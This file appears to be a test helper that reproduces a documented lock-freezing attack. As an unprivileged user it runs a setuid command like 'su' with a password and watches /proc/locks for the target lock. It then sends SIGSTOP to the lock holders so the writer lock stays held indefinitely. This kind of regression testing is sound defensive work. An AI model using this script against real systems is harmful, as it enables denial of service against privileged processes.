#!/usr/bin/env python3
"""The lock-freezing attack of issue 18, as an unprivileged user runs it.

    freeze_lock.py LOCKFILE SECONDS PASSWORD RELEASE -- COMMAND...

Runs COMMAND (a setuid program such as `su USER -c true`) with PASSWORD on
its standard input, and watches /proc/locks (world-readable) for a lock on
LOCKFILE's inode. When one appears it sends SIGSTOP to every process holding
it that it may signal, and to COMMAND: a stopped holder would hold the
writers' lock of the user cache for ever. A stopped COMMAND stays stopped until the
file RELEASE exists (at most 10 x SECONDS; this process stays alive so that
COMMAND's process group is not orphaned, which would hang it up), then it is
continued and waited for.

Prints one line per finding, as it goes:
    command PID
    holder PID stopped        (the attack worked on that process)
    holder PID refused ERRNO  (the kernel refused: not the user's to signal)
    command stopped
    command refused ERRNO     (the kernel refused: COMMAND holds the lock itself)
    no holder seen            (COMMAND ended or SECONDS passed first)
    command ended STATUS
Exit status 0; 2 on bad usage. Python 3 standard library only; tests/
lock_freeze.sh runs it, and tests/system/local_attacker.sh may.
"""

import errno
import os
import signal
import subprocess
import sys
import time


def lock_holders(dev, ino):
    """Pids /proc/locks names as holding a lock on the inode (not waiters)."""
    key = "%02x:%02x:%d" % (os.major(dev), os.minor(dev), ino)
    pids = set()
    try:
        with open("/proc/locks", encoding="ascii", errors="replace") as f:
            for line in f:
                fields = line.split()
                # "1: FLOCK  ADVISORY  WRITE 123 08:01:456 0 EOF"; waiters have "->".
                if len(fields) >= 6 and fields[1] != "->" and fields[5] == key:
                    pids.add(int(fields[4]))
    except OSError:
        pass
    return pids


def main(argv):
    if len(argv) < 7 or argv[5] != "--":
        sys.stderr.write(__doc__)
        return 2
    lockfile, seconds, password, release = argv[1], float(argv[2]), argv[3], argv[4]
    command = argv[6:]
    st = os.stat(lockfile)
    proc = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    print("command %d" % proc.pid, flush=True)
    proc.stdin.write((password + "\n").encode())
    proc.stdin.flush()
    deadline = time.monotonic() + seconds
    seen = False
    while time.monotonic() < deadline and proc.poll() is None:
        holders = lock_holders(st.st_dev, st.st_ino) - {os.getpid(), 0}
        if not holders:
            continue
        seen = True
        for pid in sorted(holders):
            try:
                os.kill(pid, signal.SIGSTOP)
                print("holder %d stopped" % pid, flush=True)
            except OSError as exc:
                print("holder %d refused %s" % (pid, errno.errorcode.get(exc.errno, exc.errno)),
                      flush=True)
        try:
            os.kill(proc.pid, signal.SIGSTOP)
            print("command stopped", flush=True)
        except OSError as exc:
            print("command refused %s" % errno.errorcode.get(exc.errno, exc.errno), flush=True)
        break
    if not seen:
        print("no holder seen", flush=True)
    else:
        until = time.monotonic() + 10 * seconds
        while not os.path.exists(release) and time.monotonic() < until:
            time.sleep(0.05)
        os.kill(proc.pid, signal.SIGCONT)
    try:
        status = proc.wait(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        status = "hung"
    print("command ended %s" % status, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
